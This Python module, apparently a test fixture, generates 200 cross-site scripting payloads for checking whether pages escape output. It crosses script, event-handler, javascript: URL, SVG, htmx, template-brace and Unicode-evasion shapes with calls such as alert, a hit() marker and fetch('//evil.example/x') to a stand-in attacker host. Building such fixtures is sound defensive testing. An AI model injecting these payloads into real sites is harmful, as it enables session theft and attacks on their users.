"""200 texts that are scripts or markup where a page forgets to escape them.

Each calls `hit(…)`, opens a dialog, or asks elsewhere, once it is taken for what it pretends
to be. Shapes: OWASP's XSS Filter Evasion Cheat Sheet, html5sec.org, and what is special to
these pages (htmx attributes, template braces, SVG, links, Unicode that turns text around).
"""

from itertools import product

__all__ = ["PAYLOADS"]

_CALLS = ("alert(1)", "hit(1)", "fetch('//evil.example/x')", "top.hit?.(1)")
_SHAPES = (
    "<script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</option></select><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<ScRiPt/x>{call}</ScRiPt>",
    "<img src=x onerror={call}>",
    '"><img src=x onerror={call}>',
    "'><img src=x onerror={call}>",
    '" onmouseover={call} autofocus onfocus={call} x="',
    "' onmouseover={call} autofocus onfocus={call} x='",
    " autofocus onfocus={call} tabindex=0 ",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={call}>#x"/></svg>',
    "<body onload={call}>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<marquee onstart={call}>x</marquee>",
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe src="javascript:{call}"></iframe>',
    '<object data="javascript:{call}"></object>',
    '<embed src="javascript:{call}">',
    '<a href="javascript:{call}" autofocus>x</a>',
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    '<base href="//evil.example/"><script>{call}</script>',
    '<form action="javascript:{call}"><button autofocus>x</button></form>',
    "<math><mtext><script>{call}</script></mtext></math>",
    "<template><script>{call}</script></template>",
    "<style>@import '//evil.example/x';</style><script>{call}</script>",
    '<div hx-get="//evil.example/x" hx-trigger="load" hx-on:click="{call}">x</div>',
    '<div hx-on::load="{call}" hx-trigger="load" hx-get="/">x</div>',
    '<hx-partial hx-target="#main"><script>{call}</script></hx-partial>',
    "{{{{ {call} }}}}",
    "{{% if {call} %}}x{{% endif %}}",
    "${{{call}}}",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "\u202e<script>{call}</script>\u202c",
    "\u2028<script>{call}</script>\u2029",
    "\uff1cscript\uff1e{call}\uff1c/script\uff1e<script\u000b>{call}</script>",
)

PAYLOADS = tuple(shape.format(call=call) for shape, call in product(_SHAPES, _CALLS))
